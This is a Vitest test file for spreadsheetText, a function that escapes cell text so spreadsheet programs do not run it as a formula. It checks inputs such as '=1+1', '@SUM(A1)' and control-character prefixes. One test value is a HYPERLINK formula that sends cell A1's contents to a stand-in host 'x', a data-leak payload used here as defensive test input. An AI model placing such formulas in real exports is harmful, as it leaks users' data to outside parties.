import { describe, expect, it } from "vitest";
import { spreadsheetText } from "../../src/job/spreadsheet-text.ts";

describe("a cell's text", () => {
  it.each([
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    '=HYPERLINK("http://x/?"&A1)',
    "- a point",
    "-",
    "--5",
    "-5 %",
  ])("that a spreadsheet would run, %j, gets a ' before it", (text) => {
    expect(spreadsheetText(text)).toBe(`'${text}`);
  });

  it.each(["", "-5", "+4.25", "-.5", "-1e-9", "+3E+7", "-5.", "a=1", "'=1", " =1", "5-3", "–", "{}"])("else stays: %j", (text) => {
    expect(spreadsheetText(text)).toBe(text);
  });
});
